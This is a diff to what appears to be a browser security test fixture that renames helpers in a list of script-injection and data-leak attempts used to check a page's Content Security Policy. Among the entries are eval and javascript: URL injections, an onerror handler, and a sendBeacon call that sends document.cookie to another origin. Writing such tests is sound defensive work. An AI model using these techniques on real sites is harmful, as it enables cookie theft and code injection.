@@ -5,27 +5,27 @@
 export const hostileAttempts = (other: string): Record<string, string> => ({
   'a script element with code': `(() => {
     const script = document.createElement('script');
-    script.textContent = 'globalThis.came = true';
+    script.textContent = 'globalThis.hasRun = true';
     document.head.append(script);
-    return hasCome();
+    return waitForRun();
   })()`,
   'an event handler in markup': `(() => {
-    document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="globalThis.came = true">');
-    return hasCome();
+    document.body.insertAdjacentHTML('beforeend', '<img src="/none.png" onerror="globalThis.hasRun = true">');
+    return waitForRun();
   })()`,
-  'a link of code': `(() => {
+  'a link with a javascript: URL': `(() => {
     const link = document.createElement('a');
-    link.href = 'javascript:globalThis.came = true';
+    link.href = 'javascript:globalThis.hasRun = true';
     document.body.append(link);
     link.click();
-    return hasCome();
+    return waitForRun();
   })()`,
-  'evaluated code': `later(() => eval('globalThis.came = true'))`,
-  'a function made of text': `later(() => new Function('globalThis.came = true')())`,
-  'a timer with text': `later(() => setTimeout('globalThis.came = true', 0))`,
-  'a script of another origin': `loads('script', { src: '${other}/chat/widget.js' })`,
-  'a script from a data address': `loads('script', { src: 'data:text/javascript,globalThis.came=true' })`,
-  'a script from a blob': `loads('script', { src: URL.createObjectURL(new Blob(['globalThis.came = true'])) })`,
+  'evaluated code': `runLater(() => eval('globalThis.hasRun = true'))`,
+  'a function built from text': `runLater(() => new Function('globalThis.hasRun = true')())`,
+  'a timer with text': `runLater(() => setTimeout('globalThis.hasRun = true', 0))`,
+  'a script of another origin': `loadElement('script', { src: '${other}/chat/widget.js' })`,
+  'a script from a data: URL': `loadElement('script', { src: 'data:text/javascript,globalThis.hasRun=true' })`,
+  'a script from a blob': `loadElement('script', { src: URL.createObjectURL(new Blob(['globalThis.hasRun = true'])) })`,
   'a worker from a blob': `new Promise((done) => {
     try {
       const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
@@ -33,19 +33,19 @@ export const hostileAttempts = (other: string): Record<string, string> => ({
       worker.onerror = () => done(false);
     } catch { done(false); }
   })`,
-  "the page's own script without a hash": `loads('script', { src: document.querySelector('script[src]').src })`,
-  "the page's own script with another hash": `loads('script', {
+  "the page's own script without a hash": `loadElement('script', { src: document.querySelector('script[src]').src })`,
+  "the page's own script with another hash": `loadElement('script', {
     src: document.querySelector('script[src]').src,
     crossOrigin: 'anonymous',
     integrity: 'sha384-${'A'.repeat(64)}',
   })`,
-  'a style sheet of another origin': `loads('link', { rel: 'stylesheet', href: '${other}/mailbox.css' })`,
-  'a picture of another origin': `loads('img', { src: '${other.replace('http:', 'https:')}/?' + document.title })`,
+  'a style sheet of another origin': `loadElement('link', { rel: 'stylesheet', href: '${other}/mailbox.css' })`,
+  'a picture of another origin': `loadElement('img', { src: '${other.replace('http:', 'https:')}/?' + document.title })`,
   'a background of another origin': `(() => {
     document.body.style.backgroundImage = "url('${other.replace('http:', 'https:')}/background')";
     return new Promise((done) => setTimeout(() => done(false), 200));
   })()`,
-  'a prefetch of another origin': `loads('link', { rel: 'prefetch', href: '${other}/?' + document.title })`,
+  'a prefetch of another origin': `loadElement('link', { rel: 'prefetch', href: '${other}/?' + document.title })`,
   'a style element in markup': `(() => {
     document.body.insertAdjacentHTML('beforeend', '<style>body { outline: 3px solid rgb(1, 2, 3) }</style>');
     return getComputedStyle(document.body).outlineColor === 'rgb(1, 2, 3)';
@@ -55,7 +55,7 @@ export const hostileAttempts = (other: string): Record<string, string> => ({
     navigator.sendBeacon('${other}/messages', document.cookie);
     return false;
   })()`,
-  'another base address': `(() => {
+  'a different base URL': `(() => {
     const base = document.createElement('base');
     base.href = '${other}/';
     document.head.prepend(base);
@@ -81,13 +81,13 @@ export const hostileAttempts = (other: string): Record<string, string> => ({
 
 /** Helpers that run in the page before the attempts that use them. */
 export const attemptHelpers = `Object.assign(globalThis, {
-  came: false,
-  hasCome: () => new Promise((done) => setTimeout(() => done(globalThis.came === true), 300)),
-  later: (run) => new Promise((done) => setTimeout(() => {
+  hasRun: false,
+  waitForRun: () => new Promise((done) => setTimeout(() => done(globalThis.hasRun === true), 300)),
+  runLater: (run) => new Promise((done) => setTimeout(() => {
     try { run(); } catch {}
-    setTimeout(() => done(globalThis.came === true), 300);
+    setTimeout(() => done(globalThis.hasRun === true), 300);
   })),
-  loads: (name, attributes) => new Promise((done) => {
+  loadElement: (name, attributes) => new Promise((done) => {
     const element = Object.assign(document.createElement(name), attributes);
     element.onload = () => done(true);
     element.onerror = () => done(false);
